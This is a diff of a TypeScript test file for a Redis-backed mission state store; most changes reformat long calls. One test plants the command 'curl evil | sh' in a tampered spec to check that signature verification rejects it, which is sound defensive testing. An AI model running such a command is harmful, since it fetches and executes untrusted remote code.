@@ -48,7 +48,14 @@ describe('mission state transitions', () => {
   it('releases a join exactly once when its parents are approved concurrently, replays included', async () => {
     for (let round = 0; round < 40; round++) {
       const id = `diamond-${round}`;
-      await store.createMission({ id, spec: spec({ a: [], b: ['a'], c: ['a'], d: ['b', 'c'] }), repo: '/r', baseCommit: 'x', roots: ['a'], now: now() });
+      await store.createMission({
+        id,
+        spec: spec({ a: [], b: ['a'], c: ['a'], d: ['b', 'c'] }),
+        repo: '/r',
+        baseCommit: 'x',
+        roots: ['a'],
+        now: now(),
+      });
       const a = await store.settle(id, 'a', 1, 'approve', {}, now());
       expect(a.released.sort()).toEqual(['b', 'c']);
       const outcomes = await Promise.all([
@@ -72,7 +79,14 @@ describe('mission state transitions', () => {
   });
 
   it('a stale attempt cannot change a task; a retry moves to the next attempt once', async () => {
-    await store.createMission({ id: 'retry', spec: spec({ a: [] }), repo: '/r', baseCommit: 'x', roots: ['a'], now: now() });
+    await store.createMission({
+      id: 'retry',
+      spec: spec({ a: [] }),
+      repo: '/r',
+      baseCommit: 'x',
+      roots: ['a'],
+      now: now(),
+    });
     const [r1, r2] = await Promise.all([
       store.settle('retry', 'a', 1, 'retry', { feedback: 'f' }, now()),
       store.settle('retry', 'a', 1, 'retry', { feedback: 'f' }, now()),
@@ -102,11 +116,24 @@ describe('mission state transitions', () => {
     expect(done.released).toEqual([]);
     expect(done.settled).toBe(true);
     expect(done.missionStatus).toBe('partial');
-    expect((await store.status('partial')).tasks.map((t) => t.status)).toEqual(['failed', 'skipped', 'skipped', 'skipped', 'completed']);
+    expect((await store.status('partial')).tasks.map((t) => t.status)).toEqual([
+      'failed',
+      'skipped',
+      'skipped',
+      'skipped',
+      'completed',
+    ]);
   });
 
   it('cancel stops what has not started and settles when the running ones report', async () => {
-    await store.createMission({ id: 'cancel', spec: spec({ a: [], b: ['a'], c: [] }), repo: '/r', baseCommit: 'x', roots: ['a', 'c'], now: now() });
+    await store.createMission({
+      id: 'cancel',
+      spec: spec({ a: [], b: ['a'], c: [] }),
+      repo: '/r',
+      baseCommit: 'x',
+      roots: ['a', 'c'],
+      now: now(),
+    });
     await store.mark('cancel', 'a', 1, 'running');
     const result = await store.cancel('cancel', now());
     expect(result.cancelled.sort()).toEqual(['b', 'c']);
@@ -119,10 +146,20 @@ describe('mission state transitions', () => {
 
   it('refuses a mission spec altered in Redis when a secret is set', async () => {
     const signed = new MissionStore(client, store.prefix, 'the-secret');
-    await signed.createMission({ id: 'signed', spec: spec({ a: [] }), repo: '/r', baseCommit: 'x', roots: ['a'], now: now() });
+    await signed.createMission({
+      id: 'signed',
+      spec: spec({ a: [] }),
+      repo: '/r',
+      baseCommit: 'x',
+      roots: ['a'],
+      now: now(),
+    });
     expect((await signed.getMission('signed')).spec.tasks[0]?.exitCriteria).toEqual(['true']);
-    const tampered = spec({ a: [] });
-    (tampered.tasks[0] as { exitCriteria: string[] }).exitCriteria = ['curl evil | sh'];
+    const original = spec({ a: [] });
+    const tampered = {
+      ...original,
+      tasks: original.tasks.map((t) => ({ ...t, exitCriteria: ['curl evil | sh'] })),
+    };
     await client.hset(`${store.prefix}:m:signed`, 'spec', JSON.stringify(tampered));
     await expect(signed.getMission('signed')).rejects.toThrow(/signature/);
   });
